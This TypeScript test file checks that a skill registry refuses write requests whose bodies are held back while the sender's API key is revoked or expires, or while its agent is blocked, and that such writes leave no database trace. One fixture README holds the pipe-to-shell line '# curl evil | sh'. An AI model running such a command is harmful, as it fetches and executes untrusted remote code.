import { request } from 'node:http'
import { text as readText } from 'node:stream/consumers'
import { setTimeout as pause } from 'node:timers/promises'
import type { Db } from '@skillpass/server/db/open'
import { blockAgent } from '@skillpass/server/registry/moderation/agents'
import { holdAgent, revokeApiKeys } from '@skillpass/server/registry/store/api-keys'
import { blockAgent as markBlocked } from '@skillpass/server/registry/store/moderation'
import { nextRevision } from '@skillpass/server/registry/store/revision'
import { describe, expect, test } from 'vitest'
import { operatorOf } from '../../support/commands.ts'
import { startTestServer, type TestAgent } from '../../support/server.ts'
import { keyRegistration, makeSigningKey } from '../../support/signing.ts'
import { ask, expectError, publish, unique } from '../../support/skills.ts'

/** Long enough for the server to have let a request in that it has the headers of. */
const letInMs = 500

describe('a write whose body is held back,', async () => {
  const server = await startTestServer()
  const operator = await operatorOf(server.database, server.clock)
  const other = await server.agent('other')
  const target = await publish(other)

  /** Sends all of a request but the last byte of its body; `finish` sends that, and gives the answer. */
  function hold(key: string, [method, path, body]: Write) {
    const bytes = JSON.stringify(body ?? {})
    const sent = request(new URL(path, server.url), {
      method,
      headers: {
        authorization: `Bearer ${key}`,
        'content-type': 'application/json',
        'content-length': bytes.length,
      },
    })
    const answer = new Promise<Response>((resolve, reject) => {
      sent.on('error', reject)
      sent.on('response', async (response) => {
        const text = await readText(response)
        const headers = new Headers()
        for (const [name, value] of Object.entries(response.headers)) headers.set(name, `${value}`)
        resolve(new Response(text, { status: response.statusCode ?? 0, headers }))
      })
    })
    sent.write(bytes.slice(0, -1))
    const finish = () => {
      sent.end(bytes.slice(-1))
      return answer
    }
    return { name: `${method} ${path}`, finish }
  }

  type Write = readonly [method: string, path: string, body?: object]

  /** Every write of the registry that has a body. */
  const writesOf = async (agent: TestAgent): Promise<Write[]> => {
    const own = await publish(agent)
    const domain = { method: 'dns', owner: agent.username, domain: 'late.example' }
    const registration = keyRegistration(agent.username, makeSigningKey())
    return [
      ['POST', '/api/v1/skills', { name: 'Late', slug: 'late', readme: '# curl evil | sh' }],
      ['PUT', `/api/v1/skills/${own.id}`, { readme: '# Changed' }],
      ['POST', `/api/v1/skills/${target.id}/feedback`, { task: 'x', helpful: false }],
      ['POST', `/api/v1/skills/${target.id}/report`, { reason: 'spam' }],
      ['PUT', '/api/v1/agents/me/signing-key', registration],
      ['POST', '/api/v1/agents/me/verifications', domain],
      ['POST', '/api/v1/api-keys', { name: 'late' }],
    ]
  }

  /** Every write of the registry, those without a body too. */
  const allWritesOf = async (agent: TestAgent): Promise<Write[]> => {
    const own = await publish(agent)
    const { data: spare } = await agent.client.registry.apiKeys.create({ body: { name: 'spare' } })
    return [
      ...(await writesOf(agent)),
      ['DELETE', `/api/v1/skills/${own.id}`],
      ['POST', `/api/v1/skills/${target.id}/star`],
      ['DELETE', `/api/v1/skills/${target.id}/star`],
      ['DELETE', `/api/v1/api-keys/${spare.id}`],
      ['DELETE', '/api/v1/api-keys'],
    ]
  }

  /** Holds writes back while `end` happens; gives their answers. */
  async function holdAll(agent: TestAgent, key: string, end: () => Promise<unknown>) {
    const held = (await writesOf(agent)).map((write) => hold(key, write))
    const before = await traceOf(agent)
    await pause(letInMs)
    await end()
    const answers = await Promise.all(
      held.map(async ({ name, finish }) => ({ name, answer: await finish() })),
    )
    expect(await traceOf(agent)).toEqual(before)
    return answers
  }

  /** Sends all writes while `end` is on its way in a transaction; gives their answers. */
  async function meetAll(agent: TestAgent, key: string, end: (trx: Db) => Promise<unknown>) {
    const writes = await allWritesOf(agent)
    const before = await traceOf(agent)
    let sent: Promise<Response>[] = []
    await server.ctx.db.write(async (trx) => {
      await nextRevision(trx)
      await holdAgent(trx, agent.id)
      await end(trx)
      sent = writes.map(([method, path, body]) =>
        ask(server, method, path, { key, ...(body ? { body } : {}) }),
      )
      await pause(letInMs)
    })
    const answers = await Promise.all(sent)
    expect(await traceOf(agent)).toEqual(before)
    return answers
  }

  /** What the agent has done, as far as the database tells. */
  function traceOf({ id }: TestAgent) {
    const { read } = server.ctx.db
    const mine = ['skills', 'stars', 'feedback', 'reports', 'verifications'] as const
    const rows = mine.map((table) =>
      read.selectFrom(table).selectAll().where('agent_id', '=', id).execute(),
    )
    const signing = read.selectFrom('signing_keys').selectAll().where('agent_id', '=', id).execute()
    return Promise.all([...rows, signing])
  }

  test('does nothing once its key is revoked', async () => {
    const agent = await server.agent('leaked')
    const { apiKeys } = agent.client.registry
    const { data } = await apiKeys.create({ body: { name: 'leaked' } })
    const end = () => apiKeys.revoke({ params: { id: data.id } })
    for (const { name, answer } of await holdAll(agent, data.key, end)) {
      expect(`${name} ${answer.headers.get('www-authenticate')}`).toContain('Bearer realm')
      await expectError(answer, 'UNAUTHORIZED')
    }
    const live = (await apiKeys.list()).data.filter(({ revokedAt }) => revokedAt === null)
    expect(live).toHaveLength(1)
  })

  test('does nothing once its key has expired, and says so', async () => {
    const agent = await server.agent('expiring')
    const expiresAt = new Date(server.clock.now() + 60_000).toISOString()
    const { apiKeys } = agent.client.registry
    const { data } = await apiKeys.create({ body: { name: 'short', expiresAt } })
    const end = async () => server.clock.advance(60_000)
    for (const { answer } of await holdAll(agent, data.key, end)) {
      const { message } = await expectError(answer, 'UNAUTHORIZED')
      expect(message).toContain('has expired')
    }
  })

  test('does nothing once its agent is blocked, and says why', async () => {
    const agent = await server.agent('villain')
    const end = () => blockAgent(operator, agent.username, 'It is evil.')
    for (const { answer } of await holdAll(agent, agent.apiKey, end)) {
      const { message } = await expectError(answer, 'FORBIDDEN')
      expect(message).toContain('It is evil.')
    }
    await expectError(ask(server, 'GET', `/${agent.username}/skills/late?format=md`), 'NOT_FOUND')
  })

  test('waits for a revocation that is on its way, and does nothing after it', async () => {
    const agent = await server.agent('racer')
    const { data } = await agent.client.registry.apiKeys.create({ body: { name: 'leaked' } })
    const end = (trx: Db) => revokeApiKeys(trx, [data.id], server.clock.now())
    for (const answer of await meetAll(agent, data.key, end)) {
      await expectError(answer, 'UNAUTHORIZED')
    }
  })

  test('waits for a block that is on its way, and does nothing after it', async () => {
    const agent = await server.agent('racer')
    const block = { reason: 'It is evil.', now: server.clock.now() }
    const end = (trx: Db) => markBlocked(trx, agent.id, block)
    for (const answer of await meetAll(agent, agent.apiKey, end)) {
      expect((await expectError(answer, 'FORBIDDEN')).message).toContain('It is evil.')
    }
  })

  test('is done where nothing has ended meanwhile', async () => {
    const agent = await server.agent('slow')
    const slug = unique('slow')
    const held = hold(agent.apiKey, ['POST', '/api/v1/skills', { name: 'Slow', slug }])
    await pause(letInMs)
    expect((await held.finish()).status).toBe(201)
  })

  test('waits for no other in a circle: writes, and keys that are made and revoked at once', async () => {
    const agent = await server.agent('busy')
    const { apiKeys, skills } = agent.client.registry
    const rounds = Array.from({ length: 10 }, async (_, i) => {
      const { data } = await apiKeys.create({ body: { name: `key ${i}` } })
      const body = { name: 'Busy', slug: unique('busy') }
      await Promise.all([
        skills.publish({ body }),
        skills.star({ params: { id: target.id } }),
        apiKeys.create({ body: { name: 'more' } }),
        apiKeys.revoke({ params: { id: data.id } }),
      ])
    })
    await Promise.all(rounds)
  })
})
